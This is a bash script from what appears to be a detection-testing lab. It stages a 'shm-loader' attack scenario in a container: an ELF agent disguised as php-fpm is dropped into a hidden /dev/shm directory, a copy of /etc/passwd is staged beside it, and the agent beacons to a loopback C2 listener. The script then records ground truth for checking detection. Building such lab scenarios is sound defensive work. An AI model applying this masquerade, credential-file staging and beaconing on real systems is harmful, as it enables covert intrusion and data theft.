#!/bin/bash
# Scenario shm-loader: a program dropped in /dev/shm and run from there. The pod mounts a
# memory-backed volume at /dev/shm (exec allowed, as a Kubernetes emptyDir of medium Memory
# is). An attacker's shell (exec'd later) drops a small ELF agent (built here from
# specimens/memfd/payload.c) as /dev/shm/.ICE-<hex>/php-fpm, stages a copy of /etc/passwd
# beside it and runs it; the agent beacons to 127.115.x.y and keeps the connection.
# Usage: lab/scenarios/shm-loader.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init shm-loader "$@"

C2="$(lab_addr 115):$(lab_pick 4444 8443 2083)"
DROPDIR=/dev/shm/.ICE-$(lab_hex 3)
AGENT=$DROPDIR/php-fpm
STAGED=$DROPDIR/.p
TAG="fpm-agent/$(lab_rand 1 9).$(lab_rand 0 20) (dyn)"
lab_build_agent "$WORK/agent" "$TAG" FPM_UPSTREAM

lab_peer_on c2 "$C2" perl "$PEERS/sink.pl" --listen "$C2" --summary "$WORK/peer-c2.json"

lab_run --env APP_ENV=prod --hostname session-store --tmpfs /dev/shm:rw,exec,nosuid,nodev,size=65536k -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/agent" "$AGENT" 0755
lab_exec_bg "cp /etc/passwd $STAGED && cd $DROPDIR && FPM_UPSTREAM=$C2 exec $AGENT"
lab_wait "agent beaconed" 15 lab_json "$WORK/peer-c2.json" 'd["sessions"] and d["sessions"][0]["bytes_read"] > 0'

lab_finish "$AGENT" "$STAGED" "$DROPDIR"

lab_kv_json "$WORK/params.json" "c2=$C2" "agent_path=$AGENT" "staged_copy=$STAGED" "staged_from=/etc/passwd" \
    "agent_tag=$TAG" "agent_sha256=$(sha256sum "$WORK/agent" | cut -d' ' -f1)" "shm_mount=tmpfs,exec" \
    "env=FPM_UPSTREAM=$C2"
lab_facts --conn "agent=$C2"
lab_truth --description "program dropped in /dev/shm ($AGENT, exec tmpfs) beaconing to $C2, with a copy of /etc/passwd at $STAGED" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
